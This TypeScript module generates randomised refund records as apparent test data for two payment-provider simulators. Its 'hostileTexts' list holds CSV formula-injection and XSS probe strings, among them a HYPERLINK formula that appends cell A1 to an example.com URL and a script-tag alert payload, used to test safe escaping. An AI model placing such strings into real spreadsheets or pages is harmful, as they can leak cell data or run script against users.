import type { Draws } from './draws.ts'

/** The end of the year that all refunds are of; both simulators' clocks stand here. */
export const endOfYear: number = Date.UTC(2026, 0, 1)
export const startOfYear: number = Date.UTC(2025, 0, 1)

const day = 24 * 60 * 60 * 1000

/** When a refund was created, milliseconds since 1970. Some come in batches at midnight. */
export function drawTime(draws: Draws): number {
  const time = startOfYear + draws.below(365) * day
  return draws.onceIn(50) ? time : time + draws.below(day)
}

/**
 * Minor units. A few have all 15 digits that both providers' numbers are exact to: their sum is
 * beyond what a number of JavaScript says exactly.
 */
export function drawMinor(draws: Draws): number {
  if (draws.onceIn(1000)) return 900_000_000_000_000 + draws.below(99_999_999) * 1_000_000 + 1
  return 1 + draws.below(500_000)
}

export const reasons = [
  'duplicate',
  'fraudulent',
  'requested_by_customer',
  'expired_uncaptured_charge',
  'The customer said "no", and\r\nmeant it',
  null,
] as const

/** What spreadsheets, browsers and terminals would act on, and what breaks a careless CSV. */
const hostileTexts = [
  '=HYPERLINK("http://example.com/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '</script><script>alert(1)</script>',
  'quoted "twice", and\r\ncut',
  '\t=1+1',
  'مرحبا \u202e كتب',
] as const

/** A reference that most refunds have; some are legal and begin like a formula, some are not legal. */
export function drawReference(draws: Draws, index: number): string | null {
  if (draws.onceIn(10)) return null
  if (draws.onceIn(100)) return draws.oneOf(hostileTexts)
  return draws.onceIn(100) ? `-${index}` : `ORDER-${index}`
}

/** A status word that nobody documented: it is read as pending and kept as it came. */
export function drawOddWord(draws: Draws): string {
  return draws.onceIn(2) ? draws.oneOf(hostileTexts) : 'in_review'
}
